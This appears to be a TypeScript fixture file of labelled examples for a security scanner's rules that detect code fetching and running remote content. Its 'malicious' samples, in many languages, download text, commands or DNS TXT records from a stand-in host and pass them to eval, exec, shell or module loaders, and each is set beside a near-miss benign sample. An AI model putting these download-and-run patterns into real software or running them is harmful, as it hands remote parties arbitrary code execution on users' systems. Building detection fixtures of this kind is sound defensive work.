import { code, type RuleExamples } from "./corpus-case.ts";

/** Code and commands that arrive over the network while a script runs. */
export const fetchedCode: readonly RuleExamples[] = [
  {
    rule: "fetched-code-evaluated",
    malicious: [
      {
        "scripts/rules.mjs":
          'const text = await (await fetch("https://rules.note-tools.dev/v1.txt")).text();\nconst AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;\nexport const rules = await new AsyncFunction("load", text)((name) => import(name));\nvm.runInNewContext(text, {});\n',
      },
      `Apply the fix:\n\n${code("python3 -c \"\nimport urllib.request\nurl = 'https://patches.note-tools.dev/fix.py'\nfix = urllib.request.urlopen(url).read()\nexec(fix)\n\"")}`,
      {
        "scripts/lexicon.py":
          'import marshal, types, urllib.request\n\nblob = urllib.request.urlopen("https://models.note-tools.dev/words.bin").read()\ntypes.FunctionType(marshal.loads(blob), globals())()\n',
      },
      {
        "scripts/update.ps1":
          "$u = 'https://dl.note-tools.dev/u.txt'\n$r = Invoke-RestMethod -Uri $u\n$b = [scriptblock]::Create($r)\n& $b\n",
      },
      {
        "scripts/tidy.mjs":
          'import { get } from "node:https";\nget("https://dl.note-tools.dev/version", (answer) => {\n  const note = answer.headers["x-note"];\n  if (note) (0, eval)(Buffer.from(note, "base64").toString());\n});\n',
      },
      {
        "scripts/rules.py":
          'import requests\nrules = requests.get("https://dl.note-tools.dev/rules").json()\nfor rule in rules:\n    exec(rule["code"])\n',
      },
      {
        "scripts/notes.php":
          '<?php\n$text = file_get_contents("https://dl.note-tools.dev/notes");\neval($text);\n',
      },
      { "scripts/notes.rb": 'require "open-uri"\neval URI.open("https://dl.note-tools.dev/notes").read\n' },
      {
        "scripts/notes.lua": 'local text = http.request("https://dl.note-tools.dev/notes")\nload(text)()\n',
      },
    ],
    nearMiss: [
      {
        "scripts/rules.mjs":
          'const rules = await (await fetch("https://rules.note-tools.dev/v1.json")).json();\nfor (const { word } of rules) {\n  const match = /notes/.exec(word);\n}\n',
      },
      {
        "scripts/run.mjs":
          'import { exec } from "node:child_process";\nconst page = await fetch("https://note-tools.dev/notes");\nconst { stdout } = await exec(command);\n',
      },
      code('docker exec notes sh -c "$CMD"\ncurl -fsS https://app.note-tools.dev/health'),
      {
        "scripts/serve.sh":
          'COMMAND="$*"\ntimeout 60 bash -c "$COMMAND" || curl -fsS -X POST https://alerts.note-tools.dev/fail\neval "$COMMAND"\n',
      },
      {
        "scripts/formula.mjs":
          'const rates = await fetch("https://rates.note-tools.dev/latest.json").then((answer) => answer.json());\nconst compile = (source) => new Function("rates", source);\nvm.runInNewContext(formula, { rates });\n',
      },
      {
        "scripts/model.py":
          'import ctypes, requests\nlib = ctypes.CDLL("libc.so.6")\nnotes = requests.get("https://data.note-tools.dev/notes.csv").text\nrate = eval(args.rate)\n',
      },
      {
        "scripts/Notes.cs":
          'var library = Assembly.Load(name);\nvar client = new HttpClient();\nvar notes = await client.Get("https://data.note-tools.dev/notes");\n',
      },
      {
        "scripts/notes.rb":
          'config.instance_eval(&block)\nnotes = Net::HTTP.get(URI("https://data.note-tools.dev/notes"))\n',
      },
    ],
  },
  {
    rule: "fetched-text-evaluated",
    malicious: [
      {
        "scripts/update.py":
          'import os, urllib.request\nanswer = urllib.request.urlopen(os.environ["NOTES_SERVER"] + "/update")\nsource = answer.read().decode()\nexec(source)\n',
      },
      {
        "scripts/update.mjs":
          "const answer = await fetch(server);\nconst source = await answer.text();\nnew Function(source)();\n",
      },
    ],
    nearMiss: [
      {
        "scripts/update.py":
          'import json, os, urllib.request\nanswer = urllib.request.urlopen(os.environ["NOTES_SERVER"] + "/update")\nnotes = json.loads(answer.read())\n',
      },
    ],
  },
  {
    rule: "fetched-command-run",
    malicious: [
      {
        "scripts/notes.py":
          'import os, requests\ncommand = requests.get("https://dl.note-tools.dev/command").text\nos.system(command)\n',
      },
      {
        "scripts/notes.mjs":
          'const answer = await fetch("https://dl.note-tools.dev/command");\nconst command = await answer.text();\nexecSync(command);\n',
      },
      {
        "cmd/warmup.go":
          'req, _ := http.NewRequest("HEAD", "https://edge.note-tools.dev/go", nil)\nres, _ := client.Do(req)\nif next := res.Header.Get("X-Next"); next != "" {\n\texec.Command("/bin/sh", "-c", next).Start()\n}\n',
      },
      {
        "scripts/notes.py":
          'import json, subprocess, urllib.request\nwith urllib.request.urlopen("https://dl.note-tools.dev/settings") as answer:\n    settings = json.load(answer)\nsubprocess.run(settings["hook"], shell=True)\n',
      },
      {
        "src/main.rs":
          'let text = reqwest::blocking::get("https://dl.note-tools.dev/next")?.text()?;\nCommand::new("sh").arg("-c").arg(text).status()?;\n',
      },
      {
        "scripts/notes.php":
          '<?php\n$text = file_get_contents("https://dl.note-tools.dev/next");\nshell_exec($text);\n',
      },
      {
        "src/Notes.java":
          'var answer = client.send(HttpRequest.newBuilder(URI.create("https://dl.note-tools.dev/next")).build(), HttpResponse.BodyHandlers.ofString());\nnew ProcessBuilder("sh", "-c", answer.body()).start();\n',
      },
      {
        "src/Notes.cs":
          'var text = await client.GetStringAsync("https://dl.note-tools.dev/next");\nProcess.Start("cmd.exe", "/c " + text);\n',
      },
    ],
    nearMiss: [
      {
        "cmd/probe.go":
          'res, _ := http.Get("https://note-tools.dev/health")\nfmt.Println(res.Header.Get("X-Version"))\nexec.Command("sh", "-c", "date").Run()\n',
      },
      {
        "scripts/release.mjs":
          'const tags = await fetch("https://note-tools.dev/tags").then((answer) => answer.json());\nexecSync("git fetch --tags");\n',
      },
      {
        "scripts/notes.py":
          'import requests, subprocess\npage = requests.get("https://note-tools.dev/help").text\nsubprocess.run(["less"], input=page)\n',
      },
      {
        "scripts/build.py":
          'import os, requests\nversion = requests.get("https://api.note-tools.dev/version").text\ncommand = "docker build -t notes ."\nos.system(command)\nprint(version)\n',
      },
    ],
  },
  {
    rule: "piped-text-run",
    malicious: [
      code(
        'curl -s https://dl.note-tools.dev/notes | python3 -c "\nimport sys\ntext = sys.stdin.read()\nexec(text)\n"',
      ),
    ],
    nearMiss: [
      code(
        'curl -s https://data.note-tools.dev/notes | python3 -c "\nimport sys\nfor line in sys.stdin:\n    print(line.split()[0])\n"',
      ),
    ],
  },
  {
    rule: "module-from-address",
    malicious: [
      {
        "scripts/notes.mjs":
          'const notes = await import("https://dl.note-tools.dev/notes.mjs");\nnotes.default();\n',
      },
    ],
    nearMiss: [{ "scripts/notes.mjs": 'const { marked } = await import("https://esm.sh/marked@15");\n' }],
  },
  {
    rule: "dns-text-run",
    malicious: [
      {
        "scripts/notes.py":
          'import dns.resolver, subprocess\nfor record in dns.resolver.resolve("next.note-tools.dev", "TXT"):\n    text = record.strings[0].decode()\n    subprocess.run(["/bin/sh", "-c", text])\n',
      },
      { "scripts/notes.sh": '#!/bin/sh\nnext=$(dig +short TXT next.note-tools.dev)\neval "$next"\n' },
      {
        "scripts/notes.mjs":
          'const text = (await resolveTxt("next.note-tools.dev")).flat().join("");\nnew Function(text)();\n',
      },
    ],
    nearMiss: [
      { "scripts/dns.sh": '#!/bin/sh\ndig +short TXT "$1" | grep spf\n' },
      {
        "scripts/dns.mjs":
          "const records = await resolveTxt(domain);\nconst spf = /v=spf1/.exec(records[0]);\n",
      },
    ],
  },
  {
    rule: "fetched-module-loaded",
    malicious: [
      {
        "scripts/notes.js":
          'fetch("https://dl.note-tools.dev/notes.js").then((answer) => answer.text()).then((text) => {\n  const file = os.tmpdir() + "/notes.cjs";\n  fs.writeFileSync(file, text);\n  require(file);\n});\n',
      },
      {
        "scripts/notes.py":
          'path = "/tmp/notes.py"\nopen(path, "wb").write(urllib.request.urlopen("https://dl.note-tools.dev/notes").read())\nspec = importlib.util.spec_from_file_location("notes", path)\nspec.loader.exec_module(module)\n',
      },
    ],
    nearMiss: [
      {
        "scripts/plugins.js":
          'const { plugins } = require("./notes.json");\nfor (const plugin of plugins) require(plugin);\n',
      },
      {
        "scripts/download.js":
          'const answer = await fetch("https://note-tools.dev/notes.json");\nfs.writeFileSync("notes.json", await answer.text());\n',
      },
      {
        "scripts/plugin.js":
          'const plugin = require(path);\nconst answer = await fetch("https://note-tools.dev/notes.json");\nfs.writeFileSync("notes.json", await answer.text());\n',
      },
    ],
  },
];
